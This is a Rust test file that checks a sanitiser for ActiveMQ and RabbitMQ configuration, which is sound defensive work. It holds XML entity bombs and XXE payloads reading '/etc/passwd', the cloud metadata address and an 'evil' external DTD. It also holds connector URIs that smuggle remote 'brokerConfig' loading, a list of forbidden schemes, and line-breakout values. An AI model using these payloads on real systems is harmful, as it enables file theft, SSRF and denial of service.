//! Hostile configurations: bombs, smuggled addresses, and whatever a generator makes of the language.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "the helpers of tests may fail as tests do"
)]

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use brokers::configuration::activemq::table::{ElementRule, Holds, RULES};
use brokers::configuration::activemq::{
    ConnectorUri, Document, Element, Node, Role, Strategy as Authentication, sanitise,
};
use brokers::configuration::rabbitmq::{self, Series, SettingValue};
use proptest::prelude::*;

const CORE: &str = "http://activemq.apache.org/schema/core";

fn broker(inner: &str) -> Vec<u8> {
    format!("<broker xmlns=\"{CORE}\">{inner}</broker>").into_bytes()
}

fn with_dtd(dtd: &str, inner: &str) -> Vec<u8> {
    format!("<!DOCTYPE broker [{dtd}]><broker xmlns=\"{CORE}\">{inner}</broker>").into_bytes()
}

/// XML that is small to send and large to read, or that reads what it should not.
fn bombs() -> Vec<(&'static str, Vec<u8>)> {
    let laughs = |levels: usize, each: usize| {
        let mut text = "<!ENTITY a0 \"ha\">".to_owned();
        for level in 1..levels {
            text.push_str(&format!(
                "<!ENTITY a{level} \"{}\">",
                format!("&a{};", level - 1).repeat(each)
            ));
        }
        with_dtd(&text, &format!("&a{};", levels - 1))
    };
    let nested = |name: &str, depth: usize| {
        broker(&format!(
            "{}{}",
            format!("<{name}>").repeat(depth),
            format!("</{name}>").repeat(depth)
        ))
    };
    let attributes = |count: usize| {
        (0..count)
            .map(|at| format!(" a{at}=''"))
            .collect::<String>()
    };
    let namespaces = |count: usize| {
        (0..count)
            .map(|at| format!(" xmlns:n{at}='u{at}'"))
            .collect::<String>()
    };
    vec![
        ("billion laughs", laughs(10, 10)),
        ("billion laughs, wide", laughs(4, 250)),
        (
            "billion laughs in an attribute",
            with_dtd("<!ENTITY a 'x'><!ENTITY b '&a;&a;'>", "<x y='&b;'/>"),
        ),
        (
            "quadratic blow-up",
            with_dtd(
                &format!("<!ENTITY a '{}'>", "x".repeat(100_000)),
                &"&a;".repeat(10_000),
            ),
        ),
        (
            "entity loop",
            with_dtd("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"),
        ),
        (
            "external entity, file",
            with_dtd("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;"),
        ),
        (
            "external entity, http",
            with_dtd("<!ENTITY x SYSTEM 'http://169.254.169.254/latest'>", "&x;"),
        ),
        (
            "external entity, public",
            with_dtd("<!ENTITY x PUBLIC 'a' 'file:///etc/passwd'>", "&x;"),
        ),
        (
            "parameter entity",
            with_dtd("<!ENTITY % p SYSTEM 'http://evil/x.dtd'>%p;", ""),
        ),
        (
            "external subset",
            format!("<!DOCTYPE broker SYSTEM 'http://evil/x.dtd'><broker xmlns='{CORE}'/>")
                .into_bytes(),
        ),
        (
            "document type without anything",
            format!("<!DOCTYPE broker><broker xmlns='{CORE}'/>").into_bytes(),
        ),
        ("empty internal subset", with_dtd("", "")),
        (
            "document type after a comment",
            format!("<!-- x --><!DOCTYPE broker []><broker xmlns='{CORE}'/>").into_bytes(),
        ),
        (
            "attribute defaults",
            with_dtd("<!ATTLIST broker brokerName CDATA 'x'>", ""),
        ),
        ("notation", with_dtd("<!NOTATION n SYSTEM 'x'>", "")),
        ("unknown entity", broker("&xxe;")),
        (
            "unknown entity in an attribute",
            broker("<destinations a='&xxe;'/>"),
        ),
        ("deep nesting", nested("a", 64)),
        ("very deep nesting", nested("a", 100_000)),
        ("deep nesting of what is permitted", nested("wrapped", 80)),
        ("deep nesting without ends", broker(&"<a>".repeat(300_000))),
        ("very many elements", broker(&"<a/>".repeat(60_000))),
        ("very many comments", broker(&"<!---->".repeat(60_000))),
        (
            "very many processing instructions",
            broker(&"<?a?>".repeat(60_000)),
        ),
        ("very many texts", broker(&" <a/>".repeat(30_000))),
        (
            "very many attributes on one element",
            broker(&format!("<a{}/>", attributes(90_000))),
        ),
        (
            "very many attributes in all",
            broker(&format!("<a{}/>", attributes(100)).repeat(1_000)),
        ),
        (
            "very many namespaces on one element",
            broker(&format!("<a{}/>", namespaces(40_000))),
        ),
        (
            "namespaces that pile up",
            broker(&format!(
                "<a{}>{}</a>",
                namespaces(60),
                "<b xmlns:x='y'/>".repeat(20_000)
            )),
        ),
        ("more than a mebibyte", broker(&" ".repeat(1024 * 1024))),
        (
            "far more than a mebibyte",
            broker(&"<a/>".repeat(4 * 1024 * 1024)),
        ),
        (
            "a mebibyte of one open tag",
            broker(&format!("<a{}", " ".repeat(1_000_000))),
        ),
        ("a mebibyte of open brackets", vec![b'<'; 1_000_000]),
        (
            "an unclosed comment",
            broker(&format!("<!--{}", "-".repeat(1_000_000))),
        ),
        (
            "utf-16",
            "\u{feff}<broker/>"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
        ),
    ]
}

#[test]
fn every_bomb_is_refused_at_once() {
    let bombs = bombs();
    assert!(bombs.len() >= 30);
    let mut longest = Duration::ZERO;
    for (name, data) in &bombs {
        let start = Instant::now();
        let result = sanitise(data, Authentication::Simple);
        let took = start.elapsed();
        longest = longest.max(took);
        let Err(error) = result else {
            panic!("{name} was accepted")
        };
        // Generous for an unoptimised build on a busy machine; a bomb that goes off takes minutes.
        assert!(
            took < Duration::from_secs(2),
            "{name} took {took:?} until: {error}"
        );
    }
    println!("{} bombs refused, the slowest in {longest:?}", bombs.len());
}

#[test]
fn the_largest_configuration_within_the_limits_is_read_in_time() {
    let queue = "<queue physicalName='A'/>";
    let data = broker(&format!(
        "<destinations>{}</destinations>",
        queue.repeat(41_000)
    ));
    let start = Instant::now();
    let sanitised = sanitise(&data, Authentication::Simple).unwrap();
    let took = start.elapsed();
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert_eq!(sanitised.warnings, []);
    println!("{} bytes in {took:?}", data.len());
}

/// Numbers without state outside themselves (SplitMix64), so that the cases are the same on every run.
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// One of the first `good` mostly, else any.
    fn mostly<'a>(&mut self, good: usize, from: &[&'a str]) -> &'a str {
        let wrong_turn = self.next().is_multiple_of(6);
        self.pick(if wrong_turn { from } else { &from[..good] })
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
}

#[rustfmt::skip]
fn connector_uri(numbers: &mut Numbers) -> String {
    const SCHEMES: &[&str] = &[
        "ssl", "ssl", "ssl", "ssl", "ssl", "ssl", "SSL", "tcp", "vm", "nio", "nio+ssl", "auto+ssl", "http", "https", "peer",
        "multicast", "xbean", "ldap", "file", "amqp+ssl", "stomp+ssl", "udp", "rmi", "ssl+vm", "ss\u{17f}", "",
    ];
    const WRAPPERS: &[&str] = &[
        "static", "static", "static", "masterslave", "masterslave", "masterslave", "failover", "fanout", "discovery", "simple",
        "zeroconf", "mock", "Static", "static:static", "masterslave:failover", "vm", "peer", "broker",
    ];
    const HOSTS: &[&str] = &[
        "b-1.mq.us-east-1.amazonaws.com", "10.0.0.7", "[2001:db8::1]", "x", "localhost", "127.0.0.1", "169.254.169.254",
        "(broker:(tcp://x:1))", "a@b", "a b", "a%20b", "a/../b", "", "x?brokerConfig=xbean:http://evil/x.xml", "2130706433",
    ];
    const OPTIONS: &[&str] = &[
        "", "", "", "", "?maxReconnectDelay=10", "?randomize=false", "?keepAlive=true", "?brokerConfig=xbean:http://evil/x.xml",
        "?create=true", "?nested.brokerConfig=properties:http://evil", "?transport.trace=true", "?wireFormat=evil", "#fragment",
        ";a=b", "?marshal=false&broker.persistent=false", "?discovered.x=y", "&a=b", "?", "?randomize=false&randomize=vm://x",
    ];
    const OPTIONS_OF_ADDRESSES: &[&str] = &[
        "", "", "", "?keepAlive=true", "?soTimeout=5&tcpNoDelay=true", "?brokerConfig=xbean:http://evil/x.xml", "?wireFormat=evil",
        "?trace=true", "#x", "?socket.x=y", "?randomize=true",
    ];
    const OPENS: &[&str] = &[":(", ":(", ":(", ":(", ":(", "://(", ":", "://", ":((", "("];
    const CLOSES: &[&str] = &[")", ")", ")", ")", "", "))", ") ", "),vm://x", ")?,tcp://y:1"];
    const JOINS: &[&str] = &[",", ",", ",", ", ", ";", "|", ")(", "\t", ",,"];
    const PORTS: &[&str] = &[":61617", ":61617", ":61617", ":1", ":0", ":99999", "", ":x"];
    let mut uri = numbers.mostly(5, WRAPPERS).to_owned();
    uri.push_str(numbers.mostly(5, OPENS));
    for at in 0..=numbers.next() % 3 {
        if at > 0 {
            uri.push_str(numbers.mostly(3, JOINS));
        }
        uri.push_str(numbers.mostly(6, SCHEMES));
        uri.push_str("://");
        uri.push_str(numbers.mostly(4, HOSTS));
        uri.push_str(numbers.mostly(4, PORTS));
        uri.push_str(numbers.mostly(5, OPTIONS_OF_ADDRESSES));
    }
    uri.push_str(numbers.mostly(4, CLOSES));
    uri.push_str(numbers.mostly(6, OPTIONS));
    uri
}

#[test]
fn no_generated_address_brings_another_scheme_into_the_output() {
    let mut numbers = Numbers(1);
    let mut kept = 0;
    let total = 20_000;
    for _ in 0..total {
        let uri = connector_uri(&mut numbers);
        let given = format!(
            "<networkConnectors><networkConnector uri=\"{}\"/></networkConnectors>",
            escape(&uri)
        );
        let sanitised = sanitise(&broker(&given), Authentication::Simple).unwrap();
        let connectors: Vec<_> = sanitised.document.network_connectors().collect();
        let Some(connector) = connectors.first() else {
            assert_eq!(sanitised.warnings.len(), 1, "{uri}");
            assert!(!sanitised.document.to_xml().contains("uri="), "{uri}");
            continue;
        };
        kept += 1;
        assert_eq!(sanitised.warnings, [], "{uri}");
        let out = connector.uri.to_string();
        assert_eq!(out, uri);
        // One wrapper, and whatever stands before a `://` is `ssl`.
        assert!(
            out.starts_with("static:(ssl://") || out.starts_with("masterslave:(ssl://"),
            "{out}"
        );
        let schemes: Vec<_> = out.match_indices("://").map(|(at, _)| &out[..at]).collect();
        assert!(
            schemes
                .iter()
                .all(|before| before.ends_with("(ssl") || before.ends_with(",ssl")),
            "{out}"
        );
        assert_eq!(schemes.len(), connector.uri.addresses().len(), "{out}");
        for forbidden in [
            "vm:",
            "xbean",
            "brokerConfig",
            "peer",
            "fanout",
            "failover",
            "nested",
            "tcp:",
            "http",
            " ",
            "%",
            "@",
            "127.0.0.1",
            "localhost",
            "169.254",
        ] {
            assert!(!out.contains(forbidden), "{out}");
        }
    }
    // The generator must reach both sides, or it shows nothing.
    assert!(kept > 1_000, "{kept} of {total} addresses were permitted");
    println!("{total} addresses, {kept} permitted, 0 foreign schemes");
}

/// Walks a document by the table and panics at anything the table does not have.
fn assert_permitted(document: &Document) {
    fn object(element: &Element) {
        assert_eq!(element.role(), Role::Object);
        let rule = ElementRule::of(element.name()).unwrap_or_else(|| panic!("{}", element.name()));
        for attribute in element.attributes() {
            let (name, value) = (attribute.name(), attribute.value());
            let (_, kind) = rule.attribute(name).unwrap_or_else(|| panic!("{name}"));
            assert!(kind.permits(value), "{name}={value:?}");
        }
        for child in element.elements() {
            assert_eq!(child.role(), Role::Collection);
            assert_eq!(child.attributes(), []);
            let collection = rule
                .collection(child.name())
                .unwrap_or_else(|| panic!("{}", child.name()));
            assert!(collection.holds == Holds::Many || child.elements().count() <= 1);
            for value in child.elements() {
                assert!(collection.permits(value.name(), Authentication::Ldap));
                object(value);
            }
        }
    }
    assert_eq!(document.root().name(), "broker");
    object(document.root());
}

/// Sanitises the stored text again: nothing may change.
fn assert_idempotent(document: &Document, strategy: Authentication) {
    let text = document.to_xml();
    let again =
        sanitise(text.as_bytes(), strategy).unwrap_or_else(|error| panic!("{error}\n{text}"));
    assert_eq!(again.warnings, [], "{text}");
    assert_eq!(again.document.to_xml(), text);
    assert_eq!(&again.document, document);
}

/// Reads back what the engine is given: nothing may be removed, and there are no comments.
fn assert_engine_text_is_permitted(document: &Document) {
    fn no_comments(element: &Element) {
        for node in element.nodes() {
            match node {
                Node::Element(element) => no_comments(element),
                Node::Comment(_) | Node::Space(_) => panic!("{node:?}"),
            }
        }
    }
    let mut inner: String = document
        .broker_children()
        .map(Element::to_engine_xml)
        .collect();
    inner.push_str("<plugins>");
    inner.extend(document.plugins().map(Element::to_engine_xml));
    inner.push_str("</plugins><networkConnectors>");
    for connector in document.network_connectors() {
        inner.push_str(&format!(
            "<networkConnector>{}</networkConnector>",
            connector.inner_xml()
        ));
    }
    inner.push_str("</networkConnectors>");
    let again = sanitise(&broker(&inner), Authentication::Ldap)
        .unwrap_or_else(|error| panic!("{error}\n{inner}"));
    assert_eq!(again.warnings, [], "{inner}");
    no_comments(again.document.root());
}

fn any_name() -> impl Strategy<Value = &'static str> {
    let known: Vec<&'static str> = RULES
        .iter()
        .flat_map(|rule| {
            let collections = rule.collections.iter().map(|collection| collection.name);
            let attributes = rule.attributes.iter().map(|(name, _)| *name);
            [rule.name].into_iter().chain(collections).chain(attributes)
        })
        .chain([
            "bean",
            "sslContext",
            "jaasAuthenticationPlugin",
            "class",
            "id",
            "ref",
            "x",
        ])
        .collect();
    proptest::sample::select(known)
}

fn any_value() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::sample::select(vec![
            "true",
            "1",
            ">",
            "64 mb",
            "static:(ssl://a:1)",
            "#{x}",
            "${x}",
            "vm://x"
        ])
        .prop_map(str::to_owned),
        "[ -~]{0,12}",
        "\\PC{0,6}",
        any::<char>().prop_map(|mark| mark.to_string()),
    ]
}

fn any_attributes() -> impl Strategy<Value = String> {
    proptest::collection::btree_map(any_name(), any_value(), 0..5).prop_map(
        |attributes: BTreeMap<&'static str, String>| {
            attributes
                .iter()
                .map(|(name, value)| format!(" {name}='{}'", escape(value)))
                .collect()
        },
    )
}

/// Writes everything but letters and digits as a character reference.
fn escape(value: &str) -> String {
    let mut text = String::new();
    for mark in value.chars() {
        if mark.is_ascii_alphanumeric() {
            text.push(mark);
        } else {
            text.push_str(&format!("&#{};", u32::from(mark)));
        }
    }
    text
}

/// Any nesting of known and unknown names, texts and marks.
fn any_node() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        (any_name(), any_attributes())
            .prop_map(|(name, attributes)| format!("<{name}{attributes}/>")),
        proptest::sample::select(vec![
            "<!-- a comment -->",
            " \n ",
            "&#13;",
            "<![CDATA[ ]]>",
            "text",
            "<?pi?>",
            "\r\n"
        ])
        .prop_map(str::to_owned),
    ];
    leaf.prop_recursive(8, 60, 6, |inner| {
        (
            any_name(),
            any_attributes(),
            proptest::collection::vec(inner, 0..6),
        )
            .prop_map(|(name, attributes, inner)| {
                format!("<{name}{attributes}>{}</{name}>", inner.concat())
            })
    })
}

/// A document that follows the table, grown by a list of choices; some of its values are wrong.
fn grown(choices: &[u8]) -> String {
    const VALUES: [&str; 10] = [
        "true",
        "7",
        "64mb",
        "A.>",
        "static:(ssl://a.b:1)",
        "simple",
        "always",
        "sparse_file",
        "openwire",
        "#x",
    ];

    fn object(
        rule: &ElementRule,
        namespace: &str,
        choices: &mut std::slice::Iter<'_, u8>,
        depth: usize,
    ) -> String {
        let mut text = format!("<{}{namespace}", rule.name);
        for (name, _) in rule.attributes {
            let choice = usize::from(*choices.next().unwrap_or(&1));
            if choice % 4 == 0 {
                text.push_str(&format!(
                    " {name}=\"{}\"",
                    escape(VALUES[(choice / 4) % VALUES.len()])
                ));
            }
        }
        text.push('>');
        for collection in rule.collections {
            let choice = *choices.next().unwrap_or(&1);
            if choice % 2 == 1 || depth > 12 {
                continue;
            }
            text.push_str(&format!("<{}><!-- {depth} -->", collection.name));
            for _ in 0..=choice % 3 {
                let pick = usize::from(*choices.next().unwrap_or(&0)) % collection.elements.len();
                let rule = ElementRule::of(collection.elements[pick]).unwrap();
                text.push_str(&object(rule, "", choices, depth + 1));
            }
            text.push_str(&format!("</{}>", collection.name));
        }
        text.push_str(&format!("</{}>", rule.name));
        text
    }

    let root = ElementRule::of("broker").unwrap();
    object(root, &format!(" xmlns=\"{CORE}\""), &mut choices.iter(), 0)
}

#[rustfmt::skip]
fn xml_piece() -> impl Strategy<Value = &'static str> {
    proptest::sample::select(vec![
        "<", ">", "/>", "</", "<broker xmlns='http://activemq.apache.org/schema/core'", "broker", "</broker>", "<plugins>",
        "</plugins>", "<?xml version='1.0'", "?>", "<!--", "-->", "<![CDATA[", "]]>", "<!DOCTYPE", "&", "&amp;", ";", "&#0;",
        "&#x10ffff;", "'", "\"", "=", " ", " xmlns:a='b'", "a:b", "\u{feff}", "\0", "é", "\r", "persistent='true'",
    ])
}

fn rabbitmq_line() -> impl Strategy<Value = String> {
    let key = proptest::sample::select(vec![
        "heartbeat",
        "consumer_timeout",
        "vhost_max",
        "auth_oauth2.resource_server_id",
        "management.oauth_scopes",
        "auth_oauth2.issuer",
        "auth_backends.1",
        "management.oauth_enabled",
        "loopback_users",
    ]);
    let value = prop_oneof![
        proptest::sample::select(vec!["60", "true", "internal", "https://a/"])
            .prop_map(str::to_owned),
        "[ -~]{0,20}",
        "\\PC{0,8}",
        "[a-z\n\r#=$()'\"]{0,12}",
    ];
    (key, value).prop_map(|(key, value)| format!("{key} = {value}\n"))
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(512) })]

    #[test]
    fn no_bytes_make_the_readers_panic(data in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _ = sanitise(&data, Authentication::Simple);
        let _ = rabbitmq::parse(&data, Series::Four);
    }

    #[test]
    fn no_pieces_of_xml_in_any_order_make_the_sanitiser_panic(pieces in proptest::collection::vec(xml_piece(), 0..40)) {
        for text in [pieces.concat(), format!("<broker xmlns='{CORE}'>{}</broker>", pieces.concat())] {
            if let Ok(sanitised) = sanitise(text.as_bytes(), Authentication::Simple) {
                assert_permitted(&sanitised.document);
                assert_idempotent(&sanitised.document, Authentication::Simple);
            }
        }
    }

    #[test]
    fn whatever_is_sent_only_permitted_things_are_left_and_nothing_changes_again(
        inner in proptest::collection::vec(any_node(), 0..6),
        attributes in any_attributes(),
        ldap in any::<bool>(),
    ) {
        let strategy = if ldap { Authentication::Ldap } else { Authentication::Simple };
        let text = format!("<broker{attributes} xmlns='{CORE}'>{}</broker>", inner.concat());
        // Characters that XML does not have at all make it a malformed document.
        if let Ok(sanitised) = sanitise(text.as_bytes(), strategy) {
            assert_permitted(&sanitised.document);
            assert_idempotent(&sanitised.document, strategy);
            assert_engine_text_is_permitted(&sanitised.document);
        }
    }

    #[test]
    fn documents_grown_from_the_table_are_permitted_before_and_after(
        choices in proptest::collection::vec(any::<u8>(), 0..1500),
    ) {
        let text = grown(&choices);
        let sanitised = sanitise(text.as_bytes(), Authentication::Ldap).unwrap();
        assert_permitted(&sanitised.document);
        assert_idempotent(&sanitised.document, Authentication::Ldap);
        assert_engine_text_is_permitted(&sanitised.document);
    }

    #[test]
    fn an_address_that_is_read_is_written_as_it_was(text in "(static|masterslave):\\([ -~]{0,40}\\)\\PC{0,10}") {
        if let Some(uri) = ConnectorUri::parse(&text) {
            prop_assert_eq!(uri.to_string(), text);
        }
    }

    #[test]
    fn rabbitmq_settings_read_back_as_what_they_are(lines in proptest::collection::vec(rabbitmq_line(), 0..4)) {
        if let Ok(settings) = rabbitmq::parse(lines.concat().as_bytes(), Series::Four) {
            let normal = settings.to_text();
            let again = rabbitmq::parse(normal.as_bytes(), Series::Four).unwrap();
            prop_assert!(settings.iter().eq(again.iter()));
            prop_assert_eq!(normal.lines().count(), settings.iter().count());
        }
    }
}

#[test]
fn six_thousand_values_cannot_break_out_of_their_line() {
    const KEY: &str = "auth_oauth2.resource_server_id";
    const PIECES: &[&str] = &[
        "\n",
        "\r\n",
        "#",
        "'",
        "\"",
        "$(HOME)",
        "${x}",
        "\\",
        "=",
        " ",
        "a",
        "b",
        "[{rabbit,[]}].",
        "\0",
        "encrypted:",
        "%",
        "\u{2028}",
        "include x",
    ];
    let mut numbers = Numbers(2);
    let mut accepted = 0;
    for _ in 0..6_000 {
        let value: String = (0..=numbers.next() % 4)
            .map(|_| numbers.pick(PIECES))
            .collect();
        let text = format!("{KEY} = {value}");
        let Ok(settings) = rabbitmq::parse(text.as_bytes(), Series::Four) else {
            continue;
        };
        accepted += 1;
        let pairs: Vec<_> = settings.iter().collect();
        let [(key, SettingValue::Text(kept))] = pairs.as_slice() else {
            panic!("{pairs:?}")
        };
        assert_eq!(*key, KEY);
        assert!(
            kept.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
            "{kept:?}"
        );
        assert!(
            !kept.contains(['#', '\'', '"'])
                && !kept.contains("$(")
                && !kept.starts_with("encrypted:"),
            "{kept:?}"
        );
        assert_eq!(settings.to_text(), format!("{key} = {kept}\n"));
    }
    assert!(accepted > 100, "{accepted}");
    println!("6000 values, {accepted} accepted, none beyond its line");
}
